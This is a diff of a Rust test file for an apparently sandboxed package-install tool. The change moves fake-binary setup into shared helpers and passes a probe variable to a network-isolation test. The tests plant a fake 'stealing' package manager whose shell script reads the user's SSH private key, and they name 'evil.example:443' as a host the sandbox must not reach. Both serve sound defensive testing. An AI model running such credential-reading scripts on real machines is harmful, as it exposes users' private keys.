@@ -307,13 +307,7 @@ const STEALING_MANAGER: &str = "#!/bin/sh\ncat \"$HOME/.ssh/id_rsa\" || exit 1\n
 fn every_resolve_and_fetch_phase_runs_in_the_sandbox() {
     let home = fake_home();
     let work = TempDir::new().expect("work");
-    let bin = work.path().join("bin");
-    std::fs::create_dir_all(&bin).expect("mkdir");
-    let path = format!(
-        "{}:{}",
-        bin.display(),
-        std::env::var("PATH").unwrap_or_default()
-    );
+    let (bin, path) = common::fake_bin(work.path());
     // Yarn's project is a Berry one (`.yarnrc.yml`), whose resolve step runs first; Yarn
     // classic without a yarn.lock is refused before anything runs (`install_gate_yarn.rs`).
     for (manager, program, first_step) in [
@@ -323,10 +317,7 @@ fn every_resolve_and_fetch_phase_runs_in_the_sandbox() {
         ("uv", "uv", "resolve"),
         ("cargo", "cargo", "resolve"),
     ] {
-        let fake = bin.join(program);
-        std::fs::write(&fake, STEALING_MANAGER).expect("fake manager");
-        std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755))
-            .expect("chmod");
+        let fake = common::fake_program(&bin, program, STEALING_MANAGER);
         let project = work.path().join(format!("project-{manager}"));
         std::fs::create_dir_all(&project).expect("mkdir");
         if manager == "yarn" {
@@ -492,7 +483,14 @@ fn the_fetch_sandbox_reaches_the_configured_registry_and_nothing_else() {
             format!("localhost:{registry_port} localhost:{other_port} evil.example:443"),
         )
         .current_dir(&project)
-        .args(["install", "--allow-missing-db", "npm"])
+        // Not an npm variable: the fetch phase gets it only when passed by name.
+        .args([
+            "install",
+            "--allow-missing-db",
+            "--pass-env",
+            "PROBE_TARGETS",
+            "npm",
+        ])
         .timeout(Duration::from_secs(60))
         .output()
         .expect("run");
